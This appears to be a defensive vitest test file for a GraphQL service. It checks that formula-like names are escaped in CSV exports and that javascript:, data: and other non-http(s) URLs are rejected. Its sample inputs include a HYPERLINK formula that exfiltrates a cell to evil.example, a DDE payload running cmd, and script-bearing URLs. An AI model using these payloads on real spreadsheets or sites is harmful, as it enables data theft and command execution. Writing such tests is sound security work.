import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { graphql } from '../generated/index.js';
import { readCsv } from '../support/consumers.js';
import { curator } from '../support/curation.js';
import { startService, type TestService } from '../support/service.js';

/**
 * What an editor with an ordinary token can plant, and what comes out: a name that is a
 * spreadsheet formula leaves the CSV exports as text, and an address that is not http(s) is
 * refused with nothing written.
 */
let service: TestService;
const test = curator();
let editor: Record<string, string>;

beforeAll(async () => {
  service = await startService();
  test.use(service.db);
  editor = await test.bearer('editor');
});
afterAll(async () => {
  await test.cleanup();
  await service.close();
});

const Create = graphql(`
  mutation HostileCreate($input: EntityInput!) {
    createEntity(input: $input) {
      version
    }
  }
`);
const Link = graphql(`
  mutation HostileLink($input: LinkInput!) {
    link(input: $input) {
      id
    }
  }
`);
const Update = graphql(`
  mutation HostileUpdate($id: ID!, $set: EntityPatch!) {
    updateEntity(id: $id, expectedVersion: 1, set: $set) {
      version
    }
  }
`);
const Import = graphql(`
  mutation HostileImport($input: ImportInput!) {
    importGraph(input: $input) {
      entities
    }
  }
`);
const Source = graphql(`
  query HostileSource($id: ID!) {
    node(id: $id) {
      id
      version
      ... on Source {
        url
      }
    }
  }
`);

/** Cells Excel and LibreOffice would run as formulas (leading tab and CR are trimmed by curation). */
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-5', '@SUM(A1:A9)', '=1+2'];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

describe('CSV exports of names an editor wrote', () => {
  it('keep every hostile name and note, as text a spreadsheet does not run', async () => {
    const ids = HOSTILE.map((_, i) => test.id(`formula-${i}`));
    for (const [i, name] of HOSTILE.entries()) {
      const input = { id: ids[i]!, kind: 'PROGRAM' as const, name: { en: name, ru: name }, note: name, sources: ['src:seed-paper'] };
      expect((await service.query(Create, { input }, editor)).body.errors).toBeUndefined();
    }
    const challenge = 'kz:challenge:abuse-and-neglect';
    const link = {
      type: 'ADDRESSES' as const,
      from: ids[0]!,
      to: challenge,
      basis: 'EDITORIAL' as const,
      sources: ['src:seed-paper'],
      note: HOSTILE[0],
    };
    expect((await service.query(Link, { input: link }, editor)).body.errors).toBeUndefined();

    const scope = `ids=${[...ids, challenge].map(encodeURIComponent).join(',')}&lang=RU`;
    const nodes = readCsv(await (await fetch(`${service.url}/export/csv-nodes?${scope}`)).text());
    const edges = readCsv(await (await fetch(`${service.url}/export/csv-edges?${scope}`)).text());
    for (const [i, name] of HOSTILE.entries()) {
      const row = nodes.find((r) => r['id'] === ids[i]);
      // The value is all there, behind the quote that makes it text.
      expect(row).toMatchObject({ label: `'${name}`, name_en: `'${name}`, name_ru: `'${name}`, note: `'${name}` });
    }
    const addresses = edges.find((r) => r['source'] === ids[0] && r['relation'] === 'ADDRESSES');
    expect(addresses?.['note']).toBe(`'${HOSTILE[0]}`);
    // No cell of either file starts a formula; a number stored as a number stays a number.
    for (const row of [...nodes, ...edges]) for (const cell of Object.values(row)) expect(TRIGGERS).not.toContain(cell.charAt(0));
    expect(nodes.find((r) => r['id'] === ids[0])?.['version']).toBe('1');
  });
});

describe('addresses', () => {
  const refused = [
    'javascript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'ftp://example.org/a',
    'https://exa mple.org',
    '//example.org/a',
  ];

  it.each(refused)('createEntity refuses url %j with BAD_USER_INPUT naming the field, and writes nothing', async (url) => {
    const id = test.id(`bad-${refused.indexOf(url)}`);
    const input = { id, kind: 'SOURCE' as const, name: { en: 'A source' }, url };
    const { body } = await service.query(Create, { input }, editor);
    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'input.url' });
    expect(body.errors?.[0]?.message).toMatch(/url must be/);
    expect((await service.query(Source, { id })).body.data?.node).toBeNull();
  });

  it('createEntity stores http and https addresses', async () => {
    for (const [i, url] of ['http://example.org/a', 'https://adilet.zan.kz/rus/docs/Z070000319_'].entries()) {
      const id = test.id(`good-${i}`);
      expect(
        (await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A source' }, url } }, editor)).body.errors,
      ).toBeUndefined();
      expect((await service.query(Source, { id })).body.data?.node).toMatchObject({ url });
    }
  });

  it('updateEntity refuses a javascript: address and leaves the entity as it was', async () => {
    const id = test.id('updated');
    const url = 'https://example.org/report';
    expect(
      (await service.query(Create, { input: { id, kind: 'SOURCE', name: { en: 'A report' }, url } }, editor)).body.errors,
    ).toBeUndefined();
    const { body } = await service.query(Update, { id, set: { url: 'JavaScript:alert(1)' } }, editor);
    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'set.url' });
    expect((await service.query(Source, { id })).body.data?.node).toMatchObject({ url, version: 1 });
  });

  it('importGraph refuses the whole import when one address is bad, naming which', async () => {
    const good = { id: test.id('import-good'), kind: 'SOURCE' as const, name: { en: 'Good' }, url: 'https://example.org/good' };
    const bad = { id: test.id('import-bad'), kind: 'SOURCE' as const, name: { en: 'Bad' }, url: 'javascript:void(0)' };
    const { body } = await service.query(Import, { input: { entities: [good, bad], links: [] } }, editor);
    expect(body.errors?.[0]?.extensions).toMatchObject({ code: 'BAD_USER_INPUT', argument: 'input.entities[1].url' });
    const written = await service.db.read('hostile-import', 'MATCH (n:Entity) WHERE n.id STARTS WITH $p RETURN count(n) AS n', {
      p: test.id('import-'),
    });
    expect(written[0]?.['n']).toBe(0);
  });
});
